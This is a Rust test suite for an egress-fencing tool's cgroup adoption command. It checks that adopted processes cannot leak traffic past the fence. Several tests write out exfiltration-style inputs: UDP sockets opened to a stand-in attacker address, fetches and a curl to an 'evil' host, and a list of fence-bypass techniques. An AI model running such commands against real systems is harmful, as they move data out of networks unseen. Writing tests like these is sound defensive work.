//! `egressctl adopt`: a fence around what something else started, and what was open before.

use crate::{
    attack::{leaks, violations},
    crash::stays_closed,
    fence,
    fence::Fence,
    job::Job,
    places::EVIL,
    policies::{COMMON, EMPTY},
    program,
    sniffer::mark,
};

#[test]
fn an_adopted_cgroup_is_fenced_as_an_agent_is() {
    let fence = fence(COMMON);
    let job = Job::new(&fence);
    let mut talker = job.talker(&fence, "");
    adopts(&fence, &job, &[]);
    talker.does("fetch https://ok.test/");
    talker.does("fetch http://ok.test/");
    talker.does("tcp db.test 5432 x");
    stays_closed(&fence, &mut talker);
    // Also what is made below it, and what is started in it later.
    let mut below = job.below("nested").talker(&fence, "");
    below.does("fetch https://ok.test/");
    stays_closed(&fence, &mut below);
    let agents = fence.ctl(&["agents", "-o", "json"]);
    assert!(agents.says("\"boundary\":\"adopted\""), "its boundary is told: {agents:#?}");
}

#[test]
fn open_flows_are_listed_and_the_cgroup_is_left_as_it_was() {
    let fence = fence(COMMON);
    let job = Job::new(&fence);
    let mut talker = job.talker(&fence, "exec 7<> /dev/udp/10.99.0.66/9000; ");
    talker.does("keep evil.test 9000");
    let refused = job.adopt(&fence, &[]);
    assert_eq!(refused.code, 2, "{refused:#?}");
    for listed in ["]:9000, established", "to 10.99.0.66:9000", "udp 10.99.0.1:", "--kill-sockets", "python3"]
    {
        assert!(refused.says(listed), "`{listed}` is listed: {refused:#?}");
    }
    talker.does("say still");
    talker.does("fetch https://evil.test/");
    assert!(!fence.ctl(&["agents"]).says(job.name()), "no agent is left");
}

#[test]
fn open_flows_that_may_be_cut_are_cut() {
    let fence = fence(COMMON);
    let job = Job::new(&fence);
    let mut talker = job.talker(&fence, "exec 7<> /dev/udp/10.99.0.66/9000; ");
    talker.does("keep evil.test 9000");
    let adopted = adopts(&fence, &job, &["--kill-sockets"]);
    assert!(adopted.says("cut: process"), "{adopted:#?}");
    let mark = mark();
    let (_, frames) = violations(fence.lab(), &mark, || {
        talker.fails(&format!("say {mark}"));
        talker.tell(&format!("write 7 {mark}"))
    });
    assert!(frames.is_empty(), "what was open leaked: {frames:#?}");
    talker.does("fetch https://ok.test/");
    stays_closed(&fence, &mut talker);
}

#[test]
fn a_listener_that_was_there_before_takes_nobody_in() {
    let fence = fence(COMMON);
    let job = Job::new(&fence);
    let mut talker = job.talker(&fence, "");
    talker.does("listen 8222");
    assert!(job.adopt(&fence, &[]).says("listening"));
    adopts(&fence, &job, &["--kill-sockets"]);
    let reach = || {
        std::net::TcpStream::connect_timeout(
            &([10, 99, 0, 1], 8222).into(),
            std::time::Duration::from_secs(1),
        )
    };
    assert!(fence.lab().on_inet(reach).is_err(), "somebody came in");
}

#[test]
fn a_socket_that_was_made_outside_goes_only_with_its_process() {
    let fence = fence(COMMON);
    let job = Job::new(&fence);
    let mut smuggler = job.smuggler(&fence, "exec 7<> /dev/udp/10.99.0.66/9000");
    let mut talker = job.talker(&fence, "");
    for flags in [&[][..], &["--kill-sockets"], &["--kill-sockets", "--allow-privileges"]] {
        let refused = job.adopt(&fence, flags);
        assert!(refused.code == 2 && refused.says("was made outside of the cgroup"), "{refused:#?}");
    }
    smuggler.does("write 7 still");
    let adopted = adopts(&fence, &job, &["--kill-processes"]);
    assert!(adopted.says("killed: process"), "{adopted:#?}");
    smuggler.ends();
    talker.does("fetch https://ok.test/");
    stays_closed(&fence, &mut talker);
    assert!(fence.ctl(&["status"]).succeeded());
    // The twin: what comes with such a socket later is not stopped, so it matters to look; but told.
    let mut late = job.smuggler(&fence, "exec 7<> /dev/udp/10.99.0.66/9000");
    let (mark, position) = (mark(), fence.lab().sniffer().position());
    late.does(&format!("write 7 {mark}"));
    program::poll("the frame of a socket from outside", || {
        fence.lab().sniffer().since(position).iter().any(|frame| frame.carries(mark.as_bytes())).then_some(())
    });
    let status =
        program::poll("the red status", || Some(fence.ctl(&["status"])).filter(|status| !status.succeeded()));
    assert!(status.says("1 socket(s) from outside came into"), "{status:#?}");
    drop(late);
    program::poll("a status that is green again", || fence.ctl(&["status"]).succeeded().then_some(()));
}

#[test]
fn the_table_denies_an_adopted_agent_also_without_the_programs() {
    let fence = fence(COMMON);
    let job = Job::new(&fence);
    let mut talker = job.talker(&fence, "");
    adopts(&fence, &job, &[]);
    let pins = fence.lab().folder().join("run/bpf/links");
    let detached = fence.lab().run(&format!("rm {}/adopted-*", pins.display()));
    assert!(detached.succeeded(), "{detached:#?}");
    // Not by the programs any more: they would redirect it.
    talker.fails("fetch https://ok.test/");
    stays_closed(&fence, &mut talker);
    let status = fence.ctl(&["status"]);
    assert!(!status.succeeded() && status.says("not pinned for"), "{status:#?}");
}

#[test]
fn a_reload_reaches_adopted_agents() {
    let fence = fence(EMPTY);
    let job = Job::new(&fence);
    let mut talker = job.talker(&fence, "");
    adopts(&fence, &job, &[]);
    talker.fails("fetch https://ok.test/");
    assert!(fence.reload(COMMON).succeeded());
    talker.does("fetch https://ok.test/");
    talker.does("keep db.test 5432");
    assert!(fence.reload(EMPTY).succeeded());
    talker.fails("fetch https://ok.test/");
    talker.fails("say after");
}

#[test]
fn whatever_sends_past_the_programs_is_refused() {
    let fence = fence(EMPTY);
    let ways = [
        // Before it joins the cgroup, and what is said of it.
        ("fresh_tcp", "was made outside of the cgroup"),
        ("fresh_udp", "was made outside of the cgroup"),
        ("raw", "was made outside of the cgroup"),
        ("packet", "packet socket, which was made outside of the cgroup"),
        ("packet_inside", "packet socket, which no program on a cgroup sees"),
        ("xdp_inside", "xdp socket, which no program on a cgroup sees"),
        ("raw_inside", "which cannot be cut"),
        ("list_of_processes", "a list of processes of a cgroup, to be written"),
        ("uring", "an io_uring"),
        ("uring_mapped", "a mapped io_uring"),
        ("tun", "a tun or tap device"),
        ("in_flight", "on their way in it"),
        ("thread", "with descriptors of its own"),
    ];
    for (way, said) in ways {
        let job = Job::new(&fence);
        let _holder = job.holder(&fence, way);
        let refused = job.adopt(&fence, &["--kill-sockets"]);
        assert!(refused.code == 2 && refused.says(said), "{way}: {refused:#?}");
        adopts(&fence, &job, &["--kill-processes"]);
        assert!(!job.is_populated(), "{way}: it is gone");
    }
}

#[test]
fn privileges_that_reach_around_the_fence_are_refused() {
    let fence = fence(COMMON);
    let job = Job::new(&fence);
    let mut root = job.privileged_talker(&fence);
    let refused = job.adopt(&fence, &["--kill-sockets", "--kill-processes"]);
    for said in ["CAP_NET_ADMIN, CAP_NET_RAW", "it can leave the cgroup by", "--allow-privileges"] {
        assert!(refused.code == 2 && refused.says(said), "`{said}`: {refused:#?}");
    }
    adopts(&fence, &job, &["--allow-privileges"]);
    root.does("fetch https://ok.test/");
    root.fails("fetch https://evil.test/");
    // It may be root: it is an agent all the same.
    let asks = format!("{} --socket {} status", fence.egressctl().display(), fence.socket().display());
    let refused = job.run_privileged(&fence, &asks);
    assert!(refused.says("agent") && !refused.succeeded(), "{refused:#?}");
    assert!(fence.lab().run(&asks).succeeded(), "unfenced, it is answered");
}

#[test]
fn an_adopted_agent_stays_fenced_whatever_the_daemon_does() {
    let mut fence = fence(COMMON);
    let job = Job::new(&fence);
    let mut talker = job.talker(&fence, "");
    adopts(&fence, &job, &[]);
    talker.does("keep db.test 5432");
    for way in [Fence::kill, Fence::shut_down] {
        way(&mut fence);
        talker.does("say meanwhile");
        stays_closed(&fence, &mut talker);
        fence.restart();
        talker.does("say after");
        talker.does("fetch https://ok.test/");
        stays_closed(&fence, &mut talker);
    }
    let status = fence.ctl(&["status"]);
    assert!(status.succeeded(), "{status:#?}");
}

#[test]
fn a_released_agent_runs_on_without_a_fence() {
    let fence = fence(COMMON);
    let job = Job::new(&fence);
    let mut talker = job.talker(&fence, "");
    adopts(&fence, &job, &[]);
    talker.fails("fetch https://evil.test/");
    let asked = fence.ctl(&["release", job.name()]);
    assert!(asked.code == 2 && asked.says("1 process(es)") && asked.says("--yes"), "{asked:#?}");
    talker.fails("fetch https://evil.test/");
    let released = fence.ctl(&["release", job.name(), "--yes"]);
    assert!(released.succeeded(), "{released:#?}");
    talker.does("fetch https://evil.test/");
    assert!(!fence.ctl(&["agents"]).says(job.name()));
    // And it can be adopted again.
    adopts(&fence, &job, &["--kill-sockets"]);
    talker.fails("fetch https://evil.test/");
}

#[test]
fn an_adopted_agent_ends_with_its_cgroup_and_harms_no_other() {
    let fence = fence(COMMON);
    let job = Job::new(&fence);
    adopts(&fence, &job, &[]);
    job.remove();
    // While the daemon may not know yet: the table has to be applied all the same.
    crate::attack::works(&fence.agent(crate::AGENT), crate::places::OK, &["curl -sSf -m 5 https://{host}/"]);
    program::poll("the end of the agent", || (!fence.ctl(&["agents"]).says(job.name())).then_some(()));
    assert!(fence.ctl(&["status"]).succeeded());
}

#[test]
fn only_a_cgroup_that_stands_apart_can_be_adopted() {
    let fence = fence(EMPTY);
    let job = Job::new(&fence);
    let below = job.below("nested");
    for (path, said) in [
        ("/", "the root of the hierarchy"),
        ("/nonexistent", "failed to open cgroup"),
        (&format!("/egressd-{}", fence.lab().name()), "fenced already"),
    ] {
        let refused = fence.ctl(&["adopt", path]);
        assert!(refused.code == 2 && refused.says(said), "{path}: {refused:#?}");
    }
    adopts(&fence, &below, &[]);
    assert!(job.adopt(&fence, &[]).says("are not apart"));
    assert!(below.adopt(&fence, &[]).says("are not apart"));
}

#[test]
fn what_is_in_a_network_namespace_of_its_own_is_fenced_there() {
    let mut fence = fence(COMMON);
    let job = Job::new(&fence);
    let mut talker = job.contained_talker(&fence);
    let tricks = ["udp_sendto 10.99.0.66 9000", "udp_connected 10.99.0.66 9000", "udp_sendto 10.99.0.66 53"];
    for trick in tricks {
        let (mark, position) = (mark(), fence.lab().sniffer().position());
        talker.tell(&format!("{trick} {mark}"));
        program::poll("the leak of an unfenced twin", || {
            fence
                .lab()
                .sniffer()
                .since(position)
                .iter()
                .any(|frame| frame.carries(mark.as_bytes()))
                .then_some(())
        });
    }
    adopts(&fence, &job, &["--kill-sockets"]);
    for _ in 0..2 {
        talker.does("fetch https://ok.test/");
        talker.fails("fetch https://evil.test/");
        for trick in tricks {
            let mark = mark();
            let (answer, frames) = violations(fence.lab(), &mark, || talker.tell(&format!("{trick} {mark}")));
            assert!(frames.is_empty(), "`{trick}` leaked, its answer was {answer}: {frames:#?}");
        }
        fence.kill();
        fence.restart();
    }
    // And nobody who comes later finds it held.
    assert!(fence.ctl(&["release", job.name(), "--yes"]).succeeded());
    assert!(!fence.lab().folder().join("run/adopted/1").exists());
}

#[test]
fn a_cgroup_of_several_network_namespaces_is_refused() {
    let fence = fence(EMPTY);
    let job = Job::new(&fence);
    let _both = [job.holder(&fence, "other_network"), job.holder(&fence, "other_network")];
    let refused = job.adopt(&fence, &[]);
    assert!(refused.code == 2 && refused.says("several network namespaces"), "{refused:#?}");
}

#[test]
fn an_adoption_that_a_dead_daemon_had_begun_is_undone() {
    let mut fence = fence(EMPTY);
    let job = Job::new(&fence);
    let mut talker = job.talker(&fence, "");
    fence.kill();
    job.freeze();
    let begun = format!(r#"{{"id":99,"cgroup":"{}","was_frozen":false}}"#, job.path().display());
    std::fs::write(fence.lab().folder().join("run/adopting"), begun).expect("the run folder is there");
    fence.restart();
    talker.does("fetch https://evil.test/");
    assert!(!fence.lab().folder().join("run/adopting").exists());
}

#[test]
fn without_the_fence_a_job_reaches_what_is_denied() {
    let fence = fence(EMPTY);
    let mut talker = Job::new(&fence).talker(&fence, "");
    talker.does("fetch https://evil.test/");
    leaks(fence.lab(), EVIL, &["curl -s -m 2 http://{v4}/{mark}"]);
}

fn adopts(fence: &Fence, job: &Job, flags: &[&str]) -> program::Outcome {
    let adopted = job.adopt(fence, flags);
    assert!(adopted.succeeded(), "it should be adopted: {adopted:#?}");
    adopted
}
